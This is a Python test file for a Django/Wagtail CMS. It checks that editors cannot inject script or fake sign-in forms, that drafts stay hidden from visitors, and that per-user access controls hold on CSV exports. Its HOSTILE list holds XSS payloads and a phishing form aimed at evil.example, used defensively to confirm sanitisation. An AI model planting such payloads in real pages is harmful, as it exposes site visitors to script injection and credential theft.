"""What an editor may put into a page (T43 to T45), what a stranger sees of drafts (T46), who gets an export (T58)."""

from __future__ import annotations

import re
from datetime import date

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from wagtail.models import Page, PageViewRestriction
from wagtail.test.utils.form_data import nested_form_data, streamfield

from cms.models import GuidancePage
from gaf.accounts.models import RoleAssignment, User
from gaf.privacy.models import Read
from tests import stories
from tests.cast import people, person
from tests.cms.conftest import farid, few_pages, leila, system  # noqa: F401
from tests.cms.test_second_reading import read
from tests.rules.walking import addresses
from tests.stories import by
from tests.workflow.conftest import house  # noqa: F401  # the fund on its first day
from workflow.actions.privacy import restrict

pytestmark = [pytest.mark.pages, pytest.mark.django_db]

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">here</a>',
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    "<svg onload=alert(1)></svg>",
    "<iframe src='https://evil.example/'></iframe>",
    "<embed embedtype='media' url='https://evil.example/film'/>",
    '<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>',
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    '<p style="position:fixed" onclick="alert(1)">words</p>',
]


@pytest.fixture
def desk(client: Client, farid: User, leila: User, few_pages: None) -> Client:  # noqa: F811
    client.force_login(farid)
    return client


def typed(body: list[tuple[str, object]], press: str = "action-save") -> dict[str, object]:
    return {
        "title": "Complaints",
        "slug": "complaints",
        "summary": "<script>alert(2)</script>",
        "belongs_to": "PUBLIC",
        "body": streamfield(body),
        "comments": {"TOTAL_FORMS": 0, "INITIAL_FORMS": 0, "MIN_NUM_FORMS": 0, "MAX_NUM_FORMS": 1000},
        press: "1",
    }


def draftail(html: str) -> str:
    """Rich text as the editor's browser sends it: words of one block; the markup is text."""
    import json

    return json.dumps(
        {
            "blocks": [
                {"key": "a", "type": "unstyled", "text": html, "depth": 0, "inlineStyleRanges": [], "entityRanges": []}
            ],
            "entityMap": {},
        }
    )


def a_link_to(address: str) -> str:
    import json

    entity = {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": address}}}
    block = {"key": "a", "type": "unstyled", "text": "here", "depth": 0, "inlineStyleRanges": []}
    return json.dumps(
        {"blocks": [{**block, "entityRanges": [{"offset": 0, "length": 4, "key": 0}]}], "entityMap": entity}
    )


def published(desk: Client, body: list[tuple[str, object]]) -> str:
    """The page as a stranger reads it after an editor wrote this and another one published it."""
    page = GuidancePage.objects.get(slug="complaints")
    answer = desk.post(f"/cms/pages/{page.pk}/edit/", nested_form_data(typed(body)))
    assert answer.status_code == 302, answer.content.decode()[-3000:]
    read(page, person("Leila"))
    return Client().get("/en/complaints/").content.decode()


class TestT43AScriptOfAnEditor:
    def test_t43_is_words_on_the_page_and_nothing_else(self, desk):
        body = [("paragraph", draftail(text)) for text in HOSTILE] + [("heading", text[:120]) for text in HOSTILE]
        body += [("source", text) for text in HOSTILE]

        page = published(desk, body)

        assert "&lt;script&gt;alert(1)" in page
        for tag in ("<svg onload", "<iframe", "<embed", "<meta http-equiv=refresh", "<base", "<img src=x", "<style>"):
            assert tag not in page
        assert re.findall(r"<script(?![^>]* src=)", page) == []
        assert re.findall(r"<[^>]+\s(?:on\w+|style)=", page) == []

    @pytest.mark.parametrize(
        "address", ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "JaVaScRiPt:alert(1)"]
    )
    def test_t43_in_a_link_leads_nowhere(self, desk, address):
        page = published(desk, [("paragraph", a_link_to(address))])

        assert re.findall(r"href=[\"']?\s*(?:javascript|data|vbscript):", page, re.IGNORECASE) == []

    def test_t43_written_past_the_editor_is_stopped_by_the_policy(self, few_pages):  # noqa: F811
        """Rich text that somebody put into the database runs nothing: no inline script, and none of another site."""
        page = GuidancePage.objects.get(slug="complaints")
        page.body = [("paragraph", "<p>x</p><script>alert(1)</script>")]
        page.save()

        policy = Client().get("/en/complaints/").headers["Content-Security-Policy"]

        assert "script-src 'self';" in policy
        assert "unsafe" not in policy


class TestT44AFalseSignIn:
    def test_t44_is_no_form_and_no_form_of_ours_sends_elsewhere(self, desk):
        page = published(desk, [("paragraph", draftail(text)) for text in HOSTILE])

        assert re.findall(r"<input[^>]*password", page) == []
        actions = re.findall(r"<form[^>]*action=[\"']([^\"']*)", page)
        assert [one for one in actions if not re.match(r"/(?!/)", one)] == []
        assert "form-action 'self'" in Client().get("/en/complaints/").headers["Content-Security-Policy"]

    def test_t44_has_no_part_of_a_page_that_holds_html(self):
        from cms.blocks import GuidanceBody

        kinds = {type(block).__name__ for block in GuidanceBody().child_blocks.values()}
        assert kinds <= {"CharBlock", "RichTextBlock", "ListBlock", "CalloutBlock"}

    def test_t44_elsewhere_learns_nothing_of_where_the_reader_was(self, few_pages):  # noqa: F811
        assert Client().get("/en/complaints/").headers["Referrer-Policy"] == "same-origin"


class TestT45APicture:
    def test_t45_is_taken_by_no_page_of_the_desk(self, desk):
        from wagtail.images import get_image_model

        picture = SimpleUploadedFile("x.gif", b"GIF89a\xff\xff\xff\xff", "image/gif")
        for address in ("images/add/", "images/multiple/add/", "images/chooser/create/", "documents/add/"):
            answer = desk.post(f"/cms/{address}", {"file": picture, "title": "x", "files[]": picture})
            assert answer.status_code in (302, 403, 404), address
        assert not get_image_model().objects.exists()

    def test_t45_is_drawn_at_no_address(self, desk):
        """Wagtail's address that draws a picture by a filter somebody wrote is not part of the site."""
        assert [name for name in addresses() if "image" in name] == []
        assert {Client().get(one).status_code for one in ("/images/1/original/", "/en/images/1/width-99999/")} == {404}


class TestT46ADraft:
    def a_draft(self) -> GuidancePage:
        parent = Page.objects.get(slug="guidance")
        made = GuidancePage(
            title="Zanzibarqua", slug="zanzibarqua", summary="Zanzibarqua", belongs_to="PUBLIC", live=False
        )
        return parent.add_child(instance=made)

    PLACES = ("/en/", "/en/guidance/", "/en/criteria/", "/en/guidance/zanzibarqua/", "/sign-in/")

    def test_t46_is_on_no_page_of_a_stranger(self, few_pages):  # noqa: F811
        self.a_draft()

        answers = {place: Client().get(place) for place in self.PLACES}

        assert [place for place, answer in answers.items() if "Zanzibarqua" in answer.content.decode()] == []
        assert answers["/en/guidance/zanzibarqua/"].status_code == 404

    def test_t46_changes_nothing_of_the_page_that_is_published(self, desk):
        page = GuidancePage.objects.get(slug="complaints")
        desk.post(f"/cms/pages/{page.pk}/edit/", nested_form_data(typed([("heading", "Zanzibarqua")])))

        assert "Zanzibarqua" not in Client().get("/en/complaints/").content.decode()
        assert Client().get(f"/cms/pages/{page.pk}/view_draft/").status_code == 302

    def test_t46_and_a_page_kept_private_are_found_by_no_list_for_machines(self, few_pages, leila):  # noqa: F811
        page = self.a_draft()
        page.save_revision()
        read(page, leila)
        PageViewRestriction.objects.create(page=Page.objects.get(slug="zanzibarqua"), restriction_type="login")

        assert Client().get("/en/guidance/zanzibarqua/").status_code == 302
        machines = ("/api/v2/pages/", "/sitemap.xml", "/en/sitemap.xml", "/feed/", "/rss/", "/en/feed/", "/robots.txt")
        assert {Client().get(place).status_code for place in machines} == {404}
        assert not [app for app in settings.INSTALLED_APPS if app in ("wagtail.api.v2", "wagtail.contrib.sitemaps")]


EXPORTS = {"requests_export": "/requests/export/", "disbursements_export": "/disbursements/export/"}


@pytest.mark.usefixtures("house")
class TestT58AnExport:
    def browser(self, name: str) -> Client:
        client = Client()
        client.force_login(person(name))
        return client

    @pytest.mark.parametrize("page", EXPORTS)
    def test_t58_is_made_for_who_asks_and_kept_who_that_was(self, page):
        stories.a_disbursing_request()

        answer = self.browser("Helena").get(EXPORTS[page], {"as": "csv"})

        assert answer.status_code == 200
        assert [(one.person.name, one.page) for one in Read.objects.filter(page=page)] == [("Helena", page)]

    @pytest.mark.parametrize("page", EXPORTS)
    def test_t58_by_its_address_gives_another_person_nothing_that_is_not_theirs(self, page):
        """The address is no key: who follows a passed-on link is asked who they are and gets what they may see."""
        made = stories.a_disbursing_request()
        person("Rima")

        def reads(client: Client) -> bytes:
            answer = client.get(EXPORTS[page], {"as": "csv"})
            return b"".join(answer.streaming_content) if answer.streaming else answer.content

        assert made.reference.encode() in reads(self.browser("Helena"))
        assert made.reference.encode() not in reads(self.browser("Rima"))
        assert Client().get(EXPORTS[page]).headers["Location"].startswith("/sign-in/")

    @pytest.mark.parametrize("page", EXPORTS)
    def test_t58_asks_for_the_right_again_at_each_download(self, page):
        people("Helena")
        made = stories.a_disbursing_request()
        client = self.browser("Esi")
        assert client.get(EXPORTS[page], {"as": "csv"}).status_code == 200

        restrict(request_id=made.pk, **by("Idriss"))
        later = client.get(EXPORTS[page], {"as": "csv"})
        assert made.reference.encode() not in b"".join(later.streaming_content)

        RoleAssignment.objects.filter(person=person("Esi")).update(ends_on=date(2026, 1, 2))
        assert client.get(EXPORTS[page], {"as": "csv"}).status_code == 404
